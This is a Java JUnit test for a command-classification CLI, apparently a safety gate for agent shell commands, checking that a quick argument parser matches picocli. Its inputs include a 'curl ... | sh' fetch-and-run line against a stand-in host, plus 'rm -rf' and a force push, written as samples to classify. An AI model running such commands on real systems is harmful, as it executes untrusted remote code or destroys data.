package dev.cmdgate.agent.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The quick forms of {@code classify} answer exactly as picocli's reading of the same arguments does. */
class QuickClassifyTest {

    static List<List<String>> quickForms() {
        return List.of(
                List.of("classify", "--", "ls", "-la"),
                List.of("classify", "--json", "--", "rm", "-rf", "/tmp/x"),
                List.of("classify", "--explain", "--shell", "curl -s https://x.example/i.sh | sh"),
                List.of("classify", "--autonomy", "full", "--json", "--shell", "echo hi > out.txt"),
                List.of("classify", "--level=high", "--explain", "--json", "--", "git", "push", "--force"),
                List.of("classify", "--autonomy=readonly", "--", "touch", "x"),
                List.of("classify", "--autonomy", "bogus", "--", "ls"),
                List.of("classify", "--autonomy", "full", "--level", "low", "--", "ls"));
    }

    @ParameterizedTest
    @MethodSource("quickForms")
    void aQuickFormAnswersAsPicocliDoes(List<String> args) {
        String[] a = args.toArray(new String[0]);
        assertThat(QuickClassify.parse(a)).as("a quick form").isNotNull();
        StringWriter quickOut = new StringWriter();
        StringWriter quickErr = new StringWriter();
        StringWriter slowOut = new StringWriter();
        StringWriter slowErr = new StringWriter();
        int quick = Main.run(new PrintWriter(quickOut, true), new PrintWriter(quickErr, true), a);
        int slow = Main.picocli(new PrintWriter(slowOut, true), new PrintWriter(slowErr, true), a);
        assertThat(quick).isEqualTo(slow);
        assertThat(quickOut.toString()).isEqualTo(slowOut.toString());
        assertThat(quickErr.toString()).isEqualTo(slowErr.toString());
    }

    @Test
    void everyOtherFormIsLeftToPicocli() {
        for (List<String> args : List.of(
                List.of("classify", "--help"),
                List.of("classify", "--rules", "r.rules", "--", "ls"),
                List.of("classify", "--shell", "-x"),
                List.of("classify", "--json", "--"),
                List.of("classify", "--shell", "a", "--", "b"),
                List.of("classify", "--json", "--json", "--", "ls"),
                List.of("classify", "--jsonl"),
                List.of("report", "--", "ls"),
                List.of("classify", "ls"))) {
            assertThat(QuickClassify.parse(args.toArray(new String[0]))).as(String.join(" ", args)).isNull();
        }
    }
}
